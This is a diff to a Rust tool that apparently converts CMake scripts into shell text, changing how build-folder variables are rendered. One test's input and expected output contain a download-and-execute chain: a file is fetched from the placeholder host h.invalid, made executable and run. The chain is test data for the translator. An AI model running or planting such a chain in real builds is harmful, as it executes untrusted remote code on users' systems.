@@ -248,7 +248,11 @@ fn cmake_script(text: &str) -> Option<String> {
 
 /// A word of CMake as a shell reads it back, with its variables (`${X}`, `$ENV{X}`).
 fn said(word: &str) -> String {
-    let inner = word.replace('\\', "\\\\").replace('"', "\\\"").replace('`', "\\`").replace("$ENV{", "${");
+    let mut inner = word.replace('\\', "\\\\").replace('"', "\\\"").replace('`', "\\`").replace("$ENV{", "${");
+    // Folders that every build has.
+    for folder in ["CMAKE_BINARY_DIR", "CMAKE_CURRENT_BINARY_DIR", "PROJECT_BINARY_DIR", "CMAKE_CURRENT_SOURCE_DIR"] {
+        inner = inner.replace(&format!("${{{folder}}}"), &format!("/{folder}"));
+    }
     format!("\"{inner}\"")
 }
 
@@ -373,7 +377,7 @@ mod tests {
                 "set(p \"${B}/x\")\nstring(CONCAT u \"https:\" \"//h.invalid/\" \"${S}\")\nfile(DOWNLOAD \"${u}\" \"${p}\" TIMEOUT 5)\nfile(CHMOD \"${p}\" PERMISSIONS OWNER_EXECUTE)\nexecute_process(COMMAND \"${p}\" a OUTPUT_QUIET)\n"
             ),
             [
-                "Build CMake command: '${p}' a",
+                "Build CMake command: ${p} a",
                 "Build CMake script: p=\"${B}/x\"\nu=\"https://h.invalid/${S}\"\ncurl -o \"${p}\" \"${u}\"\nchmod +x \"${p}\"\n\"${p}\" \"a\"\n"
             ]
         );
